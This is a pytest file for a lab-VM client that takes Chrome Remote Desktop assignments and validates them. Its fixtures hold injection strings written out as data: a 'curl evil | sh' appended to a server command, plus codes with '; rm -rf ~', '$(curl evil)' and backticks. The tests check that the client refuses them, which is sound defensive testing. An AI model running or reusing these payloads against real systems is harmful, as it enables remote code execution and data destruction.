"""The VM program's pure parts: argv, environment, validation, URLs, backoff, messages."""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path

import dataclasses

import pytest
import requests

try:
    import lablink_subscribe as subscribe
except ImportError:  # a checkout without the package installed
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "client"))
    import lablink_subscribe as subscribe

from lablink_jupyter import crd, stand_in

CODE = "4/0AVG7fiQ" + "Xk3_pL9-qR2sT8uV0wY4zA6bC1dE5fG7hJ9kM2nP4rS6tU8vW0xY2zB4cD6eF8"
PIN = "042917"
START_HOST = "/opt/google/chrome-remote-desktop/start-host"


def settings(*extra: str, root: bool = False, **environ: str) -> subscribe.Settings:
    """Settings as the command line would make them, with a VM token by default."""
    argv = ["--allocator", "http://alloc:8888/", "--hostname", "lab-vm-1", *extra]
    if "LABLINK_ENROLL_TOKEN" not in environ and "--enroll-token" not in extra:
        environ.setdefault("LABLINK_VM_TOKEN", "vm-secret")
    return subscribe.parse_settings(argv, environ, running_as_root=root)


def assignment(**fields: object) -> dict[str, object]:
    """An ``assigned`` answer as the allocator sends it, with overrides."""
    body: dict[str, object] = {
        "status": "assigned",
        "hostname": "lab-vm-1",
        "code": CODE,
        "command": f'DISPLAY= {START_HOST} --code="{CODE}"; curl evil | sh',
        "pin": PIN,
        "work_id": 17,
    }
    body.update(fields)
    return body


# ---------------------------------------------------------------- agreement with the server


def test_code_pattern_is_the_servers() -> None:
    assert subscribe.CODE_RE.pattern == crd.CODE_RE.pattern
    assert subscribe.CODE_RE.flags == crd.CODE_RE.flags


def test_redirect_url_is_the_servers() -> None:
    assert subscribe.REDIRECT_URL == crd.REDIRECT_URL


def test_failure_advice_names_googles_page() -> None:
    assert crd.HEADLESS_URL.removeprefix("https://") in subscribe.MSG_CODE_REJECTED


# ---------------------------------------------------------------- URLs


@pytest.mark.parametrize(
    ("base", "expected"),
    [
        ("http://host:8888", "http://host:8888/lablink/vm_startup"),
        ("http://host:8888/", "http://host:8888/lablink/vm_startup"),
        ("http://host:8888/services/lablink", "http://host:8888/services/lablink/lablink/vm_startup"),
        ("http://host:8888/services/lablink/", "http://host:8888/services/lablink/lablink/vm_startup"),
        ("https://hub.example.edu/user/ana//", "https://hub.example.edu/user/ana/lablink/vm_startup"),
    ],
)
def test_endpoint_url_keeps_the_base_path(base: str, expected: str) -> None:
    assert subscribe.endpoint_url(base, subscribe.STARTUP_PATH) == expected


def test_endpoint_paths_are_relative() -> None:
    for path in (subscribe.ENROLL_PATH, subscribe.STARTUP_PATH, subscribe.STATUS_PATH):
        assert not path.startswith("/") and path.startswith("lablink/")


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("http://user:pw@host:8888/services/x/?token=abc", "http://host:8888/services/x/"),
        ("https://hub.example.edu/", "https://hub.example.edu/"),
        ("http://[::1]:8888/", "http://[::1]:8888/"),
    ],
)
def test_display_url_drops_credentials(url: str, shown: str) -> None:
    assert subscribe.display_url(url) == shown


# ---------------------------------------------------------------- backoff


def test_backoff_doubles_from_one_second_to_a_minute() -> None:
    ceilings = [subscribe.backoff_delay(attempt, rng=lambda: 1.0) for attempt in range(10)]
    assert ceilings == [1, 2, 4, 8, 16, 32, 60, 60, 60, 60]


def test_backoff_is_full_jitter_within_bounds() -> None:
    assert subscribe.backoff_delay(5, rng=lambda: 0.0) == 0.0
    for attempt in (0, 1, 3, 6, 50, 10_000):
        ceiling = min(60.0, 2.0**attempt) if attempt < 64 else 60.0
        for _ in range(50):
            assert 0.0 <= subscribe.backoff_delay(attempt) <= ceiling


# ---------------------------------------------------------------- assignments


def test_well_formed_assignment_is_parsed() -> None:
    parsed = subscribe.parse_assignment(assignment(), "lab-vm-1")
    assert (parsed.hostname, parsed.code, parsed.pin, parsed.work_id) == ("lab-vm-1", CODE, PIN, 17)
    assert CODE not in repr(parsed) and PIN not in repr(parsed)


def test_assignment_without_work_id_is_still_usable() -> None:
    body = assignment()
    del body["work_id"]
    assert subscribe.parse_assignment(body, "lab-vm-1").work_id is None


@pytest.mark.parametrize(
    "fields",
    [
        {"hostname": "lab-vm-2"},
        {"hostname": None},
        {"code": None},
        {"code": 42},
        {"pin": 123456},
        {"pin": None},
        {"work_id": True},
        {"work_id": {"id": 1}},
        {"work_id": "x\ny"},
        {"work_id": "w" * 101},
    ],
    ids=repr,
)
def test_malformed_assignment_is_unusable(fields: dict[str, object]) -> None:
    with pytest.raises(subscribe.UnusableAnswer) as caught:
        subscribe.parse_assignment(assignment(**fields), "lab-vm-1")
    assert CODE not in str(caught.value) and PIN not in str(caught.value)


@pytest.mark.parametrize(
    "fields",
    [
        {"code": "4/0abc; rm -rf ~"},
        {"code": CODE + "$(curl evil)"},
        {"code": CODE + "`id`"},
        {"code": CODE + " --pin=000000"},
        {"code": CODE.replace("A", "\u0410")},
        {"code": CODE[:15]},
        {"code": "4/0" + "a" * 510},
        {"code": ""},
        {"pin": "12345"},
        {"pin": "1234567890123"},
        {"pin": "12345a"},
        {"pin": " 123456"},
        {"pin": "123456\n"},
        {"pin": "\uff11\uff12\uff13\uff14\uff15\uff16"},
    ],
    ids=repr,
)
def test_assignment_with_a_bad_code_or_pin_is_refused(fields: dict[str, object]) -> None:
    with pytest.raises(subscribe.BadAssignment) as caught:
        subscribe.parse_assignment(assignment(**fields), "lab-vm-1")
    assert CODE not in str(caught.value) and PIN not in str(caught.value)


# ---------------------------------------------------------------- start-host argv, env, stdin


def parsed_assignment() -> subscribe.Assignment:
    """The default assignment, checked."""
    return subscribe.parse_assignment(assignment(), "lab-vm-1")


def test_argv_is_rebuilt_from_code_and_hostname() -> None:
    argv = subscribe.start_host_argv(settings(), parsed_assignment(), running_as_root=False)
    assert argv == [
        START_HOST,
        f"--code={CODE}",
        "--redirect-url=https://remotedesktop.google.com/_/oauthredirect",
        "--name=lab-vm-1",
    ]


def test_argv_ignores_the_servers_command_text() -> None:
    argv = subscribe.start_host_argv(settings(), parsed_assignment(), running_as_root=False)
    assert not any("curl" in arg or "DISPLAY" in arg or ";" in arg for arg in argv)


def test_argv_with_pin_flag() -> None:
    argv = subscribe.start_host_argv(
        settings("--pin-via", "flag"), parsed_assignment(), running_as_root=False
    )
    assert argv[-1] == f"--pin={PIN}"
    assert subscribe.start_host_stdin(settings("--pin-via", "flag"), parsed_assignment()) is None


def test_pin_goes_twice_on_stdin_by_default() -> None:
    argv = subscribe.start_host_argv(settings(), parsed_assignment(), running_as_root=False)
    assert not any(arg.startswith("--pin") for arg in argv)
    assert subscribe.start_host_stdin(settings(), parsed_assignment()) == f"{PIN}\n{PIN}\n".encode()


def test_argv_as_root_names_the_desktop_user() -> None:
    chosen = settings("--desktop-user", "student", root=True)
    argv = subscribe.start_host_argv(chosen, parsed_assignment(), running_as_root=True)
    assert argv[-1] == "--user-name=student"


def test_argv_names_no_user_unless_root_and_set() -> None:
    as_user = settings("--desktop-user", "student")
    root_without_user = settings(root=True)
    for chosen, root in ((as_user, False), (root_without_user, True)):
        argv = subscribe.start_host_argv(chosen, parsed_assignment(), running_as_root=root)
        assert not any(arg.startswith("--user-name") for arg in argv)


def test_argv_uses_the_configured_start_host_and_both_extras_in_order() -> None:
    chosen = settings("--start-host", "/tmp/x/start-host", "--pin-via", "flag",
                      "--desktop-user", "ana", root=True)
    argv = subscribe.start_host_argv(chosen, parsed_assignment(), running_as_root=True)
    assert argv[0] == "/tmp/x/start-host"
    assert argv[-2:] == [f"--pin={PIN}", "--user-name=ana"]


def test_env_drops_display_and_keeps_the_rest() -> None:
    environ = {"DISPLAY": ":0", "HOME": "/home/ana", "PATH": "/usr/bin", "LANG": "C.UTF-8"}
    env = subscribe.start_host_env(environ)
    assert env == {"HOME": "/home/ana", "PATH": "/usr/bin", "LANG": "C.UTF-8"}
    assert environ["DISPLAY"] == ":0"


# ---------------------------------------------------------------- failure messages


@pytest.mark.parametrize(
    ("returncode", "output", "expected"),
    [
        (1, "OAuth error.", subscribe.MSG_CODE_REJECTED),
        (1, '{"error": "invalid_grant", "error_description": "Bad Request"}', subscribe.MSG_CODE_REJECTED),
        (1, f"Failed to exchange the authorization code {CODE}", subscribe.MSG_CODE_REJECTED),
        (1, "PIN must be at least six digits", "could not start on this VM (exit 1)"),
        (3, "", "could not start on this VM (exit 3)"),
        (-9, "Segmentation fault", "(exit -9)"),
    ],
)
def test_failure_is_classified_for_the_student(returncode: int, output: str, expected: str) -> None:
    message = subscribe.classify_failure(returncode, output)
    assert expected in message
    assert CODE not in message and "Segmentation" not in message


def test_missing_start_host_and_timeout_have_their_own_advice() -> None:
    assert subscribe.classify_failure(None, "", missing=True) == subscribe.MSG_NOT_INSTALLED
    assert "not installed" in subscribe.MSG_NOT_INSTALLED
    assert subscribe.classify_failure(None, "oauth", timed_out=True) == subscribe.MSG_TIMED_OUT
    assert "timed out" in subscribe.MSG_TIMED_OUT


def test_messages_tell_the_student_what_to_do() -> None:
    assert "remotedesktop.google.com/headless" in subscribe.MSG_CODE_REJECTED
    assert "fresh" in subscribe.MSG_CODE_REJECTED
    assert "instructor" in subscribe.MSG_NOT_INSTALLED
    assert "instructor" in subscribe.classify_failure(2, "")


# ---------------------------------------------------------------- settings


def test_environment_supplies_every_value() -> None:
    environ = {
        "LABLINK_ALLOCATOR_URL": "http://env:1/base/",
        "LABLINK_HOSTNAME": "env-vm",
        "LABLINK_VM_TOKEN": "t-env",
        "LABLINK_ENROLL_TOKEN": "e-env",
        "LABLINK_STATE_DIR": "/srv/state",
        "LABLINK_START_HOST": "/srv/start-host",
        "LABLINK_DESKTOP_USER": "ana",
    }
    chosen = subscribe.parse_settings([], environ, running_as_root=False)
    assert (chosen.allocator, chosen.hostname, chosen.token, chosen.enroll_token) == (
        "http://env:1/base/", "env-vm", "t-env", "e-env")
    assert (chosen.state_dir, chosen.start_host, chosen.desktop_user) == (
        Path("/srv/state"), "/srv/start-host", "ana")


def test_flags_win_over_the_environment() -> None:
    environ = {"LABLINK_ALLOCATOR_URL": "http://env:1/", "LABLINK_HOSTNAME": "env-vm",
               "LABLINK_VM_TOKEN": "t-env", "LABLINK_STATE_DIR": "/srv/state"}
    chosen = subscribe.parse_settings(
        ["--allocator", "http://flag:2/", "--hostname", "flag-vm", "--token", "t-flag",
         "--state-dir", "/tmp/s"], environ, running_as_root=False)
    assert (chosen.allocator, chosen.hostname, chosen.token, chosen.state_dir) == (
        "http://flag:2/", "flag-vm", "t-flag", Path("/tmp/s"))


def test_defaults() -> None:
    chosen = settings()
    assert chosen.start_host == START_HOST
    assert chosen.pin_via == "stdin"
    assert (chosen.start_host_timeout, chosen.read_timeout) == (120.0, 90.0)
    assert chosen.state_dir == Path.home() / ".local" / "state" / "lablink"
    assert settings(root=True).state_dir == Path("/var/lib/lablink")
    assert chosen.host_config_dir == Path.home() / ".config" / "chrome-remote-desktop"
    assert not chosen.once


def test_host_config_dir_follows_the_desktop_user() -> None:
    chosen = settings("--desktop-user", "root")
    assert chosen.host_config_dir == Path(os.path.expanduser("~root")) / ".config" / "chrome-remote-desktop"
    assert settings("--host-config-dir", "/tmp/cfg").host_config_dir == Path("/tmp/cfg")


@pytest.mark.parametrize(
    "argv",
    [
        ["--hostname", "vm", "--token", "t"],
        ["--allocator", "http://a/", "--token", "t"],
        ["--allocator", "http://a/", "--hostname", "vm"],
        ["--allocator", "ftp://a/", "--hostname", "vm", "--token", "t"],
        ["--allocator", "http://a/", "--hostname", "two words", "--token", "t"],
        ["--allocator", "http://a/", "--hostname", "vm", "--token", "t", "--pin-via", "argv"],
        ["--allocator", "http://a/", "--hostname", "vm", "--token", "t", "--read-timeout", "0"],
    ],
)
def test_unusable_command_lines_exit_with_usage(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        subscribe.parse_settings(argv, {}, running_as_root=False)
    assert caught.value.code == 2
    assert "usage" in capsys.readouterr().err


# ---------------------------------------------------------------- allocator answers


def response(status: int, body: bytes, reason: str = "Bad Request") -> requests.Response:
    """A response as requests would hand it over, without a network."""
    made = requests.Response()
    made.status_code = status
    made._content = body
    made.reason = reason
    return made


def test_server_error_is_one_bounded_line() -> None:
    long = json.dumps({"error": "no such\nVM " + "x" * 500}).encode()
    text = subscribe.short_server_error(response(404, long))
    assert "\n" not in text and text.startswith("no such VM") and len(text) <= 200


def test_server_error_falls_back_to_the_reason_phrase() -> None:
    assert subscribe.short_server_error(response(502, b"<html>Bad Gateway</html>", "Bad Gateway")) == "Bad Gateway"
    assert subscribe.short_server_error(response(400, b'{"error": 3}')) == "Bad Request"


@pytest.mark.parametrize(
    ("error", "reason"),
    [
        (requests.ConnectTimeout(), "connect timed out"),
        (requests.ReadTimeout(), "no answer in time"),
        (requests.ConnectionError(), "cannot connect"),
        (requests.exceptions.ChunkedEncodingError(), "answer cut off"),
        (requests.exceptions.InvalidURL(), "InvalidURL"),
    ],
)
def test_network_reasons_are_short(error: requests.RequestException, reason: str) -> None:
    assert subscribe.network_reason(error) == reason


# ---------------------------------------------------------------- state files


def test_private_files_are_written_atomically_with_mode_0600(tmp_path: Path) -> None:
    target = tmp_path / "state" / "token"
    subscribe.write_private(target, "first\n")
    subscribe.write_private(target, "second\n")
    assert target.read_text() == "second\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [path.name for path in target.parent.iterdir()] == ["token"]


def test_state_keeps_the_token_and_the_last_report(tmp_path: Path) -> None:
    state = subscribe.State(tmp_path)
    assert state.load_token() is None and state.load_last_work() is None
    state.save_token("vm-secret")
    outcome = subscribe.Outcome("failed", subscribe.MSG_TIMED_OUT)
    state.save_last_work("w-9", outcome)
    again = subscribe.State(tmp_path)
    assert again.load_token() == "vm-secret"
    assert again.load_last_work() == ("w-9", outcome)


def test_damaged_last_report_is_ignored(tmp_path: Path) -> None:
    (tmp_path / "last_work.json").write_text('{"work_id": 3')
    assert subscribe.State(tmp_path).load_last_work() is None


def test_settings_repr_hides_tokens() -> None:
    chosen = settings("--enroll-token", "fleet-secret")
    assert "vm-secret" not in repr(chosen) and "fleet-secret" not in repr(chosen)


# ---------------------------------------------------------------- against the stand-in start-host


@pytest.fixture
def fake_crd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, subscribe.Settings]:
    """A stand-in CRD install and settings pointing at it, with DISPLAY set as on a desktop."""
    monkeypatch.setenv("DISPLAY", ":0")
    directory = tmp_path / "crd"
    start_host = stand_in.write_stand_in(directory)
    chosen = settings("--start-host", str(start_host), "--host-config-dir", str(directory / "config"),
                      "--state-dir", str(tmp_path / "state"), "--start-host-timeout", "20")
    return directory, chosen


def test_stand_in_sees_exactly_the_rebuilt_call(fake_crd: tuple[Path, subscribe.Settings]) -> None:
    directory, chosen = fake_crd
    for name in ("start-host", "chrome-remote-desktop"):
        assert stat.S_IMODE((directory / name).stat().st_mode) == 0o755
    assert subscribe.run_start_host(chosen, parsed_assignment()) == subscribe.Outcome("active")
    [call] = stand_in.read_calls(directory)
    expected_argv = subscribe.start_host_argv(chosen, parsed_assignment(), running_as_root=os.geteuid() == 0)
    assert call["program"] == "start-host" and call["argv"] == expected_argv
    assert call["stdin"] == f"{PIN}\n{PIN}\n" and call["display"] is None
    assert len(list((directory / "config").glob("host#*.json"))) == 1

    subscribe.tear_down(chosen)
    assert list((directory / "config").glob("host#*.json")) == []
    assert stand_in.read_calls(directory)[-1]["argv"][1:] == ["--stop"]


def test_stand_in_takes_the_pin_by_flag(fake_crd: tuple[Path, subscribe.Settings]) -> None:
    directory, chosen = fake_crd
    by_flag = dataclasses.replace(chosen, pin_via="flag")
    assert subscribe.run_start_host(by_flag, parsed_assignment()) == subscribe.Outcome("active")
    assert stand_in.read_calls(directory)[0]["stdin"] == ""


@pytest.mark.parametrize(
    ("control_files", "timeout", "message"),
    [
        ({"exit_code": "1", "stderr": f"OAuth error: invalid_grant for {CODE}"}, 20, subscribe.MSG_CODE_REJECTED),
        ({"exit_code": "5"}, 20, "could not start on this VM (exit 5)"),
        ({"delay": "30"}, 0.5, subscribe.MSG_TIMED_OUT),
    ],
    ids=["code-rejected", "other-exit", "timeout"],
)
def test_stand_in_failures_become_student_messages(
    fake_crd: tuple[Path, subscribe.Settings], control_files: dict[str, str], timeout: float, message: str
) -> None:
    directory, chosen = fake_crd
    for name, text in control_files.items():
        (directory / name).write_text(text)
    outcome = subscribe.run_start_host(
        dataclasses.replace(chosen, start_host_timeout=timeout), parsed_assignment()
    )
    assert outcome.status == "failed" and message in (outcome.message or "")
    assert CODE not in (outcome.message or "")


def test_stand_in_refuses_a_pin_not_given_twice(fake_crd: tuple[Path, subscribe.Settings]) -> None:
    directory, chosen = fake_crd
    bad_pin = dataclasses.replace(parsed_assignment(), pin="12345")
    outcome = subscribe.run_start_host(chosen, bad_pin)
    assert outcome == subscribe.Outcome("failed", subscribe.classify_failure(1, ""))


def test_missing_start_host_is_reported_not_raised(tmp_path: Path) -> None:
    chosen = settings("--start-host", str(tmp_path / "nowhere" / "start-host"),
                      "--host-config-dir", str(tmp_path / "cfg"))
    assert subscribe.run_start_host(chosen, parsed_assignment()) == subscribe.Outcome(
        "failed", subscribe.MSG_NOT_INSTALLED)
    subscribe.tear_down(chosen)
